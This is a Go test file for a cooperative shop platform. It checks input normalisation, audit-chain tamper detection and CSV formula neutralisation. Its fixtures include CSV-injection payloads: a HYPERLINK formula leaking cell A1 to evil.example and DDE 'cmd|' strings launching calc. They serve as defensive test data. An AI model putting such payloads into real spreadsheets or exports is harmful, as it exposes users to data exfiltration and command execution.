package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"cla/demo"
	"cla/internal/audit"
	"cla/internal/authz"
	"cla/internal/database"
	"cla/internal/testdb"
	"cla/internal/webtest"
)

// Issue 14, point 2: an anonymous application carrying NUL, invalid UTF-8,
// CR LF, decomposed accents and bidi overrides is stored normalised, and the
// audit trail it writes still verifies.
func TestHostileApplicationKeepsTheAuditChainVerifiable(t *testing.T) {
	t.Parallel()
	app, db := newTestApp(t)
	ctx := context.Background()
	form := shopForm("Epicerie\x00Nul", testSIRET)
	form.Set("address", "3 rue des E\u0301coles\r\nBâtiment \u202eB\u202c")
	form.Set("contact_name", "He\u0301le\u0300ne M\xfcller\x1b[0m")
	form.Set("message", "Bonjour\r\n\x00\xff\xfe\xed\xa0\x80 nous aimerions rejoindre la caisse.\r")
	form.Set("seasonality", "Le\u0301gumes\td'e\u0301te\u0301")
	shop := webtest.New(t, app)
	follow := apply(t, shop, form)

	var got struct {
		ShopName    string `bun:"shop_name"`
		Address     string `bun:"address"`
		ContactName string `bun:"contact_name"`
		Message     string `bun:"message"`
		Seasonality string `bun:"seasonality"`
	}
	if err := db.NewSelect().Table("shop_applications").Column("shop_name", "address", "contact_name", "message", "seasonality").
		Where("siret = ?", testSIRET).Scan(ctx, &got); err != nil {
		t.Fatal(err)
	}
	want := []string{"EpicerieNul", "3 rue des Écoles\nBâtiment B", "Hélène M\ufffdller[0m",
		"Bonjour\n\ufffd\ufffd\ufffd\ufffd\ufffd nous aimerions rejoindre la caisse.", "Légumes\td'été"}
	if g := []string{got.ShopName, got.Address, got.ContactName, got.Message, got.Seasonality}; fmt.Sprint(g) != fmt.Sprint(want) {
		t.Errorf("stored\n %q\nwant\n %q", g, want)
	}
	if _, body := shop.Get(follow); !strings.Contains(body, "EpicerieNul") {
		t.Error("the follow-up page does not show the stored name")
	}
	// Hostile bytes in the query string and a User-Agent at sign-in too.
	if resp, _ := shop.Get("/puis-je-acheter?q=pain%00%FF%E2%80%AE"); resp.StatusCode != 200 {
		t.Errorf("search with hostile bytes: %d", resp.StatusCode)
	}
	_, email := webtest.CreateMember(t, db, demoCouncil(t, db), authz.Member, "")
	ua := webtest.New(t, app)
	ua.Header.Set("User-Agent", strings.Repeat("a", 299)+"é\xff\x00")
	ua.SignInAs(email, webtest.Password)

	n, err := audit.Verify(ctx, db)
	if err != nil || n == 0 {
		t.Fatalf("audit trail after the hostile application: %d entries, %v", n, err)
	}
}

// Issue 14, point 2: `cla audit verify` names every broken entry, finds a
// deleted middle entry, and, given the published head, a deleted last entry;
// it says what to do and fails.
func TestAuditVerifyCommandReportsEveryBreak(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	dbURL := testdb.URL(t)
	db, err := database.Open(ctx, dbURL)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	if _, err := demo.Load(ctx, db); err != nil {
		t.Fatal(err)
	}
	app := newAppOver(t, db)
	for i := 0; i < 6; i++ {
		if err := audit.Record(ctx, db, audit.Entry{ActorName: "test", Action: "test.entry", ObjectType: "test",
			Summary: "Entrée " + strconv.Itoa(i)}, nil, nil); err != nil {
			t.Fatal(err)
		}
	}
	var ids []int64
	if err := db.NewSelect().Table("audit_log").Column("id").Order("id DESC").Limit(6).Scan(ctx, &ids); err != nil {
		t.Fatal(err)
	}
	last := ids[0]

	// The head as the open data publishes it, saved by a careful consumer and
	// served by a mirror (any HTTP server).
	resp, body := webtest.New(t, app).Get("/api/v1/audit/head")
	if resp.StatusCode != 200 {
		t.Fatalf("GET /api/v1/audit/head: %d", resp.StatusCode)
	}
	var pub audit.Published
	if err := json.Unmarshal([]byte(body), &pub); err != nil || pub.Head == nil || pub.Head.ID != last {
		t.Fatalf("published head %s: %v", body, err)
	}
	saved := filepath.Join(t.TempDir(), "head.json")
	if err := os.WriteFile(saved, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = app.Listener(ln) }()
	t.Cleanup(func() { _ = app.Shutdown() })
	mirror := "http://" + ln.Addr().String() + "/api/v1/audit/head"

	verify := func(args ...string) (string, error) {
		var out, errOut bytes.Buffer
		err := run(ctx, append([]string{"audit", "verify", "--database-url", dbURL}, args...), &out, &errOut)
		return out.String(), err
	}
	if out, err := verify("--head", saved, "--head", mirror); err != nil || !strings.Contains(out, "audit trail OK") ||
		!strings.Contains(out, "matches the 2 published heads") {
		t.Fatalf("sound trail: %v\n%s", err, out)
	}
	if _, err := verify("--expect-head", "12:nothex"); err == nil || !strings.Contains(err.Error(), "--expect-head") {
		t.Errorf("malformed --expect-head: %v", err)
	}

	deleteEntry := func(id int64) {
		t.Helper()
		if _, err := db.ExecContext(ctx, `ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update;
			DELETE FROM audit_log WHERE id = `+strconv.FormatInt(id, 10)+`;
			ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update`); err != nil {
			t.Fatal(err)
		}
	}
	// The last entry deleted: a sound chain alone, the end missing against the head.
	deleteEntry(last)
	if out, err := verify(); err != nil || !strings.Contains(out, "No published head given") {
		t.Errorf("without a head: %v\n%s", err, out)
	}
	out, err := verify("--head", saved)
	if err == nil || !strings.Contains(out, fmt.Sprintf("entry %d, named by the head published at", last)) ||
		!strings.Contains(out, "the end of the trail was deleted") || !strings.Contains(out, "What to do") {
		t.Errorf("deleted last entry against the saved head: %v\n%s", err, out)
	}

	// Two edits, the second after the first, and a deleted middle entry: all named.
	if _, err := db.ExecContext(ctx, `ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update;
		UPDATE audit_log SET summary = 'falsifié' WHERE id IN (`+strconv.FormatInt(ids[4], 10)+`, `+strconv.FormatInt(ids[1], 10)+`);
		ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update`); err != nil {
		t.Fatal(err)
	}
	deleteEntry(ids[3])
	out, err = verify("--expect-head", fmt.Sprintf("%d:%s", last, pub.Head.Hash))
	for _, want := range []string{
		fmt.Sprintf("entry %d (test.entry, ", ids[4]), fmt.Sprintf("entry %d (test.entry, ", ids[1]),
		"its content was changed after it was written",
		fmt.Sprintf("entry %d (test.entry, ", ids[2]), fmt.Sprintf("does not follow entry %d", ids[4]),
		fmt.Sprintf("entry %d, named by the head given with --expect-head", last),
		"Restore the last backup", "AUDIT TRAIL BROKEN: 4 problem(s)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("report lacks %q", want)
		}
	}
	if err == nil || !strings.Contains(err.Error(), fmt.Sprintf("entry %d", ids[1])) {
		t.Errorf("error %v", err)
	}
	if t.Failed() {
		t.Log(out)
	}
}

// Issue 14, point 5: every CSV the platform serves neutralises a cell that a
// spreadsheet would run as a formula. The test lists the app's CSV routes, so
// a new one without a case here fails.
func TestEveryCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	app, db := newTestApp(t)
	councilID := demoCouncil(t, db)
	const link = `=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")`
	form := shopForm(link, testSIRET)
	form.Set("address", "@SUM(1+1)*cmd|' /C calc'!A0")
	form.Set("commune", "-2+3+cmd|' /C calc'!A0")
	form.Set("phone", "+33 4 75 46 00 00")
	apply(t, webtest.New(t, app), form)
	fac, _ := webtest.SignIn(t, app, db, councilID, authz.Facilitator)
	if resp, _ := fac.PostForm("/gestion/registre/kombucha", url.Values{"name": {"=1+1"}, "explanation": {""}}); resp.StatusCode != 303 {
		t.Fatalf("wording correction: %d", resp.StatusCode)
	}
	var shopApp int64
	if err := db.NewRaw("SELECT id FROM shop_applications WHERE siret = ?", testSIRET).Scan(context.Background(), &shopApp); err != nil {
		t.Fatal(err)
	}
	if resp, _ := fac.PostForm(fmt.Sprintf("/gestion/candidatures/%d/proposition", shopApp),
		url.Values{"title": {"Adhésion"}, "outcome": {"Conventionner."}}); resp.StatusCode != 303 {
		t.Fatalf("propose: %d", resp.StatusCode)
	}

	// A basket product named like a formula (the shop's basket CSV).
	if resp, body := fac.PostForm("/gestion/points-de-vente/marche-du-lavoir/panier",
		url.Values{"name": {link}, "code": {""}, "item": {"riz-de-camargue"}}); resp.StatusCode != 303 {
		t.Fatalf("basket product: %d %.300s", resp.StatusCode, body)
	}
	// Routes with parameters are fetched at one concrete path.
	concrete := map[string]string{"/api/v1/shops/:slug/basket.csv": "/api/v1/shops/marche-du-lavoir/basket.csv"}

	cases := map[string]struct {
		client *webtest.Client
		want   []string // cells, as a CSV reader returns them
	}{
		"/api/v1/shops/marche-du-lavoir/basket.csv": {webtest.New(t, app), []string{"'" + link}},
		"/register.csv": {webtest.New(t, app), []string{"'=1+1"}},
		"/shops.csv":    {webtest.New(t, app), []string{"'" + link, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"}},
		"/gestion/points-de-vente/export.csv": {fac, []string{"'" + link, "'@SUM(1+1)*cmd|' /C calc'!A0",
			"'-2+3+cmd|' /C calc'!A0", "'+33 4 75 46 00 00"}},
	}
	for _, r := range app.GetRoutes(true) {
		path := r.Path
		if p, ok := concrete[path]; ok {
			path = p
		}
		if _, ok := cases[path]; strings.HasSuffix(r.Path, ".csv") && !ok {
			t.Errorf("CSV route %s %s has no case in this test", r.Method, r.Path)
		}
	}
	for path, c := range cases {
		resp, body := c.client.Get(path)
		if resp.StatusCode != 200 {
			t.Errorf("%s: %d", path, resp.StatusCode)
			continue
		}
		records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", path, err)
			continue
		}
		cells := map[string]bool{}
		for _, rec := range records {
			for _, cell := range rec {
				cells[cell] = true
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell) {
					t.Errorf("%s: cell %q can run as a formula", path, cell)
				}
			}
		}
		for _, w := range c.want {
			if !cells[w] {
				t.Errorf("%s lacks the neutralised cell %q", path, w)
			}
		}
	}
}

func plainNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil && !strings.ContainsAny(s, "eE+")
}

// The audit head is published as open data: the current head and one per day.
func TestAuditHeadIsPublished(t *testing.T) {
	t.Parallel()
	app, db := newTestApp(t)
	resp, body := get(t, app, "/api/v1/audit/head")
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/json; charset=utf-8" || resp.Header.Get("ETag") == "" {
		t.Fatalf("GET /api/v1/audit/head: %d %v", resp.StatusCode, resp.Header)
	}
	var pub audit.Published
	if err := json.Unmarshal([]byte(body), &pub); err != nil || pub.Head == nil || len(pub.Head.Hash) != 64 || pub.Days == nil {
		t.Fatalf("document %s: %v", body, err)
	}
	var last struct {
		ID   int64  `bun:"id"`
		Hash []byte `bun:"hash"`
	}
	if err := db.NewSelect().Table("audit_log").Column("id", "hash").Order("id DESC").Limit(1).Scan(context.Background(), &last); err != nil {
		t.Fatal(err)
	}
	if pub.Head.ID != last.ID || pub.Head.Hash != fmt.Sprintf("%x", last.Hash) {
		t.Errorf("published %+v, last entry %d %x", pub.Head, last.ID, last.Hash)
	}
	if resp, _ := get(t, app, "/api/v1/audit/head", "If-None-Match", resp.Header.Get("ETag")); resp.StatusCode != 304 {
		t.Errorf("revalidation: %d", resp.StatusCode)
	}
}
